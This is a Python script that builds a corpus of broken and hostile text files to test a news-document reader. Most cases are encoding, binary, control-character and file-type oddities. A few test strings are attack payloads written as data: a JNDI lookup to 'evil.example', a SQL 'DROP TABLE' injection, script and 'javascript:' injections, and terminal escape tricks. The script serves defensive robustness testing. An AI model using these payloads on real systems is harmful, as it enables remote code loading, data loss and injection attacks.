"""The bad-input corpus: hostile and broken plain-text documents, one file per case.

`python scripts/make_bad_input.py` rewrites tests/data/bad_input/ from `small_cases()` (committed, each
file small); `large_cases()` (tokens and lines over 32 KB) and `special_files()` (FIFOs, devices, link
loops, dangling links, directories named like documents) are made at test time in a temporary directory.
Every case must end as an article or a failure with a reason: tests/test_bad_input.py checks that.
A case's name starts with its class (`binary-`, `utf16-`, ...), so a failure tells what kind of input.
"""

from __future__ import annotations

import os
import random
import socket
import sys
from collections.abc import Callable
from pathlib import Path

CORPUS = Path(__file__).resolve().parent.parent / "tests" / "data" / "bad_input"

NL = (
    "Het kabinet is dinsdag gevallen na een conflict over de stikstofregels. Premier Rutte bood in Den Haag "
    "het ontslag aan bij de koning.\n\nDe oppositie in de Tweede Kamer wil snel verkiezingen. "
    "Volgens de Kiesraad kan dat op zijn vroegst in november."
)
EN = "The council met on Tuesday in Leeds and agreed the budget.\n\nProtesters gathered outside the town hall."
HEADERS = "title Kabinet valt\nsource nos\nauthor Piet Jansen\nlanguage nl\ndate 2024-03-05\n\n"


def _rng(seed: int) -> random.Random:
    return random.Random(seed)  # test data, not secrets


def _random_bytes(seed: int, n: int, alphabet: bytes | None = None) -> bytes:
    rng = _rng(seed)
    if alphabet is None:
        return bytes(rng.randrange(256) for _ in range(n))
    return bytes(rng.choice(alphabet) for _ in range(n))


def _empty() -> dict[str, bytes]:
    return {"empty-00-zero-bytes": b""}


def _whitespace() -> dict[str, bytes]:
    samples = [" ", "\n\n\n", "\t \r\n \r\n", "\u00a0\u00a0", "\u200b\u200b\n", "\u3000\n", "\f\v\f", " \n" * 500]
    return {f"whitespace-{i:02d}": s.encode() for i, s in enumerate(samples)}


def _headers_only() -> dict[str, bytes]:
    samples = [
        "date 2021-04",
        "date 2021-04\n\n\n",
        "title Alleen een kop",
        "title Kop\nsource nos\nauthor Piet Jansen\nlanguage nl",
        "url https://example.nl/nieuws/1\n",
        HEADERS,
        "desk binnenland\nregio noord\n",
        "date 2021-04-01T10:00:00Z\n",
        "author \x1b[31mRood\x1b[0m\n",
    ]
    return {f"headers-only-{i:02d}": s.encode() for i, s in enumerate(samples)}


def _binary() -> dict[str, bytes]:
    return {
        "binary-00-png": b"\x89PNG\r\n\x1a\n" + _random_bytes(1, 300),
        "binary-01-pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n",
        "binary-02-zip": b"PK\x03\x04" + _random_bytes(2, 300),
        "binary-03-gzip": b"\x1f\x8b\x08\x00" + _random_bytes(3, 300),
        "binary-04-elf": b"\x7fELF\x02\x01\x01" + bytes(300),
        "binary-05-jpeg": b"\xff\xd8\xff\xe0" + _random_bytes(5, 300),
        "binary-06-random": _random_bytes(6, 4000),
        "binary-07-random-small": _random_bytes(7, 40),
        "binary-08-all-bytes": bytes(range(256)) * 4,
        "binary-09-printable-high": _random_bytes(9, 3000, bytes(range(0x20, 0x7F)) + bytes(range(0xA0, 0x100))),
        "binary-10-control-heavy": _random_bytes(10, 2000, b"abc\x01\x02\x03\x04\x05 "),
        "binary-11-ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(200),
        "binary-12-sqlite": b"SQLite format 3\x00" + bytes(200),
        "binary-13-rtf": b"{\\rtf1\\ansi Het kabinet is gevallen.}",
    }


def _nul() -> dict[str, bytes]:
    text = NL.encode()
    return {
        "nul-00-first-byte": b"\x00" + text,
        "nul-01-middle": text + b"\x00" + text,
        "nul-02-only": b"\x00" * 100,
        "nul-03-trailing": text + b"\x00",
        "nul-04-in-header": b"title K\x00op\n\n" + text,
        "nul-05-after-8000-bytes": (text + b"\n\n") * 40 + b"\x00" + text,
        "nul-06-sprinkled-late": (text + b"\n\n") * 40 + (b"ab\x00" * 30),
        "nul-07-between-every-char-utf16ish": b"\x00".join(bytes([c]) for c in text),
    }


def _utf16_32() -> dict[str, bytes]:
    cases: dict[str, bytes] = {}
    for codec in ("utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"):
        tag = codec.replace("-", "")
        bom = "\ufeff".encode(codec)
        cases[f"utf16-bom-{tag}-text"] = bom + NL.encode(codec)
        cases[f"utf16-bom-{tag}-headers"] = bom + (HEADERS + NL).encode(codec)
        cases[f"utf16-bom-{tag}-only-bom"] = bom
        cases[f"utf16-bom-{tag}-truncated"] = bom + NL.encode(codec)[:-1]
        cases[f"utf16-nobom-{tag}-text"] = NL.encode(codec)
        cases[f"utf16-nobom-{tag}-headers"] = (HEADERS + NL).encode(codec)
    cases["utf16-bom-le-then-binary"] = b"\xff\xfe" + _random_bytes(11, 600)
    cases["utf16-bom-utf8-sig"] = b"\xef\xbb\xbf" + (HEADERS + NL).encode()
    cases["utf16-bom-utf8-twice"] = b"\xef\xbb\xbf\xef\xbb\xbf" + NL.encode()
    return cases


def _invalid_utf8() -> dict[str, bytes]:
    text = NL.encode()
    return {
        "invalid-utf8-00-truncated-end": text + b" caf\xc3",
        "invalid-utf8-01-overlong-slash": text + b" \xc0\xaf",
        "invalid-utf8-02-encoded-surrogate": text + b" \xed\xa0\x80",
        "invalid-utf8-03-lone-continuation": b"caf\xc3\xa9 " + text + b" \x80\x81",
        "invalid-utf8-04-five-byte": text + b" \xf8\x88\x80\x80\x80",
        "invalid-utf8-05-above-max": text + b" \xf4\x90\x80\x80",
        "invalid-utf8-06-mostly-bad": ("café ".encode() + b"\xc3\x28 ") * 60,
        "invalid-utf8-07-mixed-cp1252": "Café ".encode() + "naïef ".encode("cp1252") + text,
        "invalid-utf8-08-ff-fe-inside": text + b"\xff\xfe" + text,
        "invalid-utf8-09-one-bad-in-header": b"title Caf\xe9\n\n" + "Zo'n één".encode() + text,
        "invalid-utf8-10-many-bad-short": b"\xc3\x28\xc3\x28\xc3\x28 ok",
        "invalid-utf8-11-replacement-char-valid": "Een \ufffd in de tekst. ".encode() + text,
    }


def _cp1252() -> dict[str, bytes]:
    dutch = "Café in Zürich: de ‘premier’ zegt “ja” — €12,50 • naïef coördinatie."
    return {
        "cp1252-00-dutch": (dutch + "\n\n" + NL).encode("cp1252"),
        "cp1252-01-headers": ("title Café “Ja”\nsource Één\n\n" + dutch).encode("cp1252"),
        "cp1252-02-latin1-only": "Ça va très bien, señor. Ölförbrukning på Åland.".encode("latin-1"),
        "cp1252-03-undefined-bytes": dutch.encode("cp1252") + b" \x81\x8d\x8f\x90\x9d",
        "cp1252-04-iso8859-15": "L’€uro est là: Œuvre, ŠŽ.".encode("iso8859-15", errors="replace"),
        "cp1252-05-mac-roman": "Café crème brûlée à la française.".encode("mac-roman"),
        "cp1252-06-single-high-byte": b"caf\xe9",
        "cp1252-07-cp437": "Ça va très bien.".encode("cp437"),
    }


def _control() -> dict[str, bytes]:
    samples = {
        "bell": NL.replace("kabinet", "kabinet\a"),
        "backspace": NL.replace("Rutte", "Rutte\b\b\b\b\b"),
        "vertical-tab": NL.replace(". ", ".\v"),
        "form-feed": NL.replace("\n\n", "\f"),
        "delete": NL.replace("e", "e\x7f", 5),
        "c1-nel": NL.replace(". ", ".\u0085"),
        "c1-csi": NL.replace("Den", "\u009b31mDen"),
        "all-c0": "".join(chr(c) for c in range(32)) + NL,
        "in-title": "title K\x01o\x02p\x03\n\n" + NL,
        "cr-only": NL.replace("\n", "\r"),
        "crlf": NL.replace("\n", "\r\n"),
        "line-separators": NL.replace("\n\n", "\u2029").replace(". ", ".\u2028"),
        "in-source": "source n\x07o\x08s\n\n" + NL,
        "escape-only": "\x1b" * 50,
    }
    return {f"control-{i:02d}-{name}": s.encode() for i, (name, s) in enumerate(samples.items())}


def _ansi() -> dict[str, bytes]:
    samples = {
        "title-colour": "title \x1b[31;1mRood\x1b[0m nieuws\n\n" + NL,
        "source-clear-screen": "source \x1b[2J\x1b[Hnos\n\n" + NL,
        "author-osc-title": "author \x1b]0;pwned\x07Piet\n\n" + NL,
        "url-ansi": "url https://example.nl/\x1b[8m/verborgen\x1b[0m\n\n" + NL,
        "date-ansi": "date \x1b[1m2021-04\x1b[0m\n\n" + NL,
        "unknown-header": "desk \x1b[5mknipper\x1b[0m\n\n" + NL,
        "body-cursor": NL.replace("Premier", "\x1b[1A\x1b[2KPremier"),
        "unterminated": "title Kop \x1b[\n\n" + NL,
        "osc-unterminated": "title \x1b]8;;https://evil.example/\n\n" + NL,
        "language": "language \x1b[32mnl\x1b[0m\n\n" + NL,
        "hyperlink": "\x1b]8;;https://evil.example/\x1b\\klik\x1b]8;;\x1b\\ " + NL,
        "bidi-override": "title Kop \u202eetsil\u202c\n\n" + NL,
    }
    return {f"ansi-{i:02d}-{name}": s.encode() for i, (name, s) in enumerate(samples.items())}


def _headers() -> dict[str, bytes]:
    many = "".join(f"veld{i} waarde {i}\n" for i in range(1000))
    samples = {
        "thousand-unknown": many + "\n" + NL,
        "seventy-known-and-unknown": "".join(f"k{i} v\n" for i in range(70)) + "title Kop\n\n" + NL,
        "repeated-title": "title Een\ntitle Twee\n\n" + NL,
        "colon-style": "title: Kop\nsource: nos\ndate: 2021-04-01\n\n" + NL,
        "upper-case-keys": "Title Kop\nSOURCE nos\n\n" + NL,
        "long-key": "a" * 40 + " waarde\n\n" + NL,
        "blank-lines-between": "title Kop\n\n\n\nsource nos\n\n\n" + NL,
        "bom-before-headers": "\ufefftitle Kop\n\n" + NL,
        "date-twice": "date 2021-04\ndate 2022-05\n\n" + NL,
        "tabs": "title\tKop\nsource\t\tnos\n\n" + NL,
        "unicode-values": "title 北京 — Київ — القاهرة\nauthor Zoë; Ærø; \n\n" + NL,
        "empty-author": "author ;;;\n\n" + NL,
        "key-value-sentence": "premier Rutte zei dinsdag dat het kabinet doorgaat.\n\n" + NL,
        "url-not-http": "url javascript:alert(1)\n\n" + NL,
        "url-dash": "url -\n\n" + NL,
        "lang-garbage": "lang " + "x" * 200 + "\n\n" + NL,
    }
    return {f"headers-{i:02d}-{name}": s.encode() for i, (name, s) in enumerate(samples.items())}


def _dates() -> dict[str, bytes]:
    bad = [
        "2022-13",
        "0000-00",
        "2021-02-30",
        "9999-12-31",
        "1899-01-01",
        "2031-01-01",
        "gisteren",
        "2021-04-01T25:00",
        "2021-04-01T10:00:00+25:00",
        "0001-01-01T00:00:00+01:00",
        "2021/04/01",
        "",
        "99999-01-01",
        "2021-00-10",
    ]
    iso = [
        "2021-04-01T10:00:00Z",
        "2021-04-01T10:00:00+02:00",
        "2021-04-01T10:00:00.123456Z",
        "2021-04-01 10:00",
        "2021-04-01t10:00:00z",
        "2021-04-01T10:00",
        "2021-04-01T10:00:00+0200",
        "2021-04-01T10:00:00,5-05:00",
        "20210401",
    ]
    cases = {f"dates-bad-{i:02d}": f"date {d}\n\n{NL}".encode() for i, d in enumerate(bad)}
    cases |= {f"dates-iso-{i:02d}": f"date {d}\n\n{NL}".encode() for i, d in enumerate(iso)}
    cases["dates-iso-on-lede-line"] = f"date 2021-04-01T10:00:00Z {NL}".encode()
    cases["dates-bad-on-lede-line"] = f"date 2022-13 {NL}".encode()
    return cases


def _misc() -> dict[str, bytes]:
    samples = {
        "punctuation": "!!! ??? ... ---",
        "emoji": "🎉🔥💥 " * 20,
        "one-word": "Kabinet",
        "one-char": "x",
        "rtl": "الحكومة الهولندية سقطت يوم الثلاثاء بعد خلاف حول قواعد النيتروجين.",
        "cjk": "荷兰内阁周二因氮排放规则的冲突而倒台。首相吕特在海牙向国王递交辞呈。",
        "zalgo": "H̸̢̛e̵͓͝t̴̰̊ ̶̧̈k̷̳͌a̸̱͠b̵̼̆i̷̦̒n̸̰̎e̵͖͗t̶̰̾ " * 20,
        "zero-width": "Het\u200b\u200c\u200dkabinet\u2060is\ufeffgevallen.",
        "noncharacters": "Het kabinet \uffff\ufffe is \U0010ffff gevallen.",
        "private-use": "Het kabinet \ue000\uf8ff is gevallen.",
        "html": "<!DOCTYPE html><html><body><p>Het kabinet is gevallen.</p><script>alert(1)</script></body></html>",
        "json": '{"title": "Kop", "body": "Het kabinet is gevallen."}',
        "markdown": "# Kop\n\n* punt een\n* punt twee\n\n[link](https://example.nl)",
        "many-blank-lines": "\n" * 3000 + NL + "\n" * 3000,
        "many-short-paragraphs": "\n\n".join(f"Regel {i}." for i in range(1500)),
        "subheadings-only": "\n\n".join(f"Kop {i}" for i in range(40)),
        "english": EN,
        "sql-like": "'; DROP TABLE articles; --\n\n" + NL,
        "template-like": "{{7*7}} ${jndi:ldap://evil.example/a} %s%s%n " + NL,
        "very-long-url-header": "url https://example.nl/" + "a" * 3000 + "\n\n" + NL,
    }
    return {f"misc-{i:02d}-{name}": s.encode() for i, (name, s) in enumerate(samples.items())}


def small_cases() -> dict[str, bytes]:
    """Every committed case by file name (without `.txt`)."""
    builders: list[Callable[[], dict[str, bytes]]] = [
        _empty,
        _whitespace,
        _headers_only,
        _binary,
        _nul,
        _utf16_32,
        _invalid_utf8,
        _cp1252,
        _control,
        _ansi,
        _headers,
        _dates,
        _misc,
    ]
    cases: dict[str, bytes] = {}
    for build in builders:
        cases |= build()
    return cases


def large_cases() -> dict[str, bytes]:
    """Cases over 32 KB, made at test time: huge tokens (Lucene's term limit is 32,766 bytes), huge lines."""
    token = "x" * 40_000
    words = " ".join(_rng(12).choice(NL.split()) for _ in range(12_000))  # about 80 KB, one line
    return {
        "huge-token-00-body": f"{NL}\n\n{token}\n\n{NL}".encode(),
        "huge-token-01-only": token.encode(),
        "huge-token-02-title": f"title {token}\n\n{NL}".encode(),
        "huge-token-03-source": f"source {token}\n\n{NL}".encode(),
        "huge-token-04-author": f"author {token}\n\n{NL}".encode(),
        "huge-token-05-url": f"url https://example.nl/{token}\n\n{NL}".encode(),
        "huge-token-06-non-ascii": ("é" * 20_000 + " " + NL).encode(),
        "huge-token-07-unknown-header": f"desk {token}\n\n{NL}".encode(),
        "huge-token-08-capitalised": f"{NL} {'K' + 'a' * 40_000} {NL}".encode(),
        "huge-line-00-words": words.encode(),
        "huge-line-01-no-spaces-punctuated": ("abc." * 20_000).encode(),
        "huge-line-02-headers-then-line": f"{HEADERS}{words}".encode(),
        "huge-line-03-cp1252": words.replace("een", "één").encode("cp1252"),
        "huge-line-04-utf16-bom": "\ufeff".encode("utf-16-le") + words.encode("utf-16-le"),
        "huge-line-05-nul-after-8000": (words[:9000] + "\x00" + words[9000:]).encode(),
    }


def special_files(directory: Path) -> list[Path]:
    """Odd file types a directory walk meets; returns the paths to feed `read_document` directly."""
    directory.mkdir(parents=True, exist_ok=True)
    made: list[Path] = []

    def add(name: str, make: Callable[[Path], object]) -> None:
        path = directory / name
        make(path)
        made.append(path)

    good = directory / "odd-00-good.txt"
    good.write_text(NL)
    made.append(good)
    add("odd-01-fifo.txt", os.mkfifo)
    add("odd-02-dangling-link.txt", lambda p: p.symlink_to(directory / "nowhere.txt"))
    add("odd-03-link-loop.txt", lambda p: p.symlink_to(p))
    add("odd-04-link-to-dev-zero.txt", lambda p: p.symlink_to("/dev/zero"))
    add("odd-05-link-to-dev-null.txt", lambda p: p.symlink_to("/dev/null"))
    add("odd-06-directory.txt", lambda p: p.mkdir())
    add("odd-07-link-to-good.txt", lambda p: p.symlink_to(good))
    add("odd-08-link-to-proc-self-mem.txt", lambda p: p.symlink_to("/proc/self/mem"))
    add("odd-09-unreadable.txt", _make_unreadable)
    add("odd-10-socket.txt", _make_socket)
    add("odd-11-link-to-proc-file.txt", lambda p: p.symlink_to("/proc/self/status"))
    add("odd-12-link-to-directory.txt", lambda p: p.symlink_to(directory))
    return made


def _make_unreadable(path: Path) -> None:
    path.write_text(NL)
    path.chmod(0)  # refused when not run as root; root reads it like any other file


def _make_socket(path: Path) -> None:
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        sock.bind(str(path))
    finally:
        sock.close()


def write_corpus(target: Path = CORPUS) -> int:
    """Rewrite the committed corpus; returns the number of cases."""
    target.mkdir(parents=True, exist_ok=True)
    for old in target.glob("*.txt"):
        old.unlink()
    cases = small_cases()
    for name, data in cases.items():
        (target / f"{name}.txt").write_bytes(data)
    return len(cases)


if __name__ == "__main__":
    count = write_corpus()
    print(f"wrote {count} cases to {CORPUS}", file=sys.stderr)
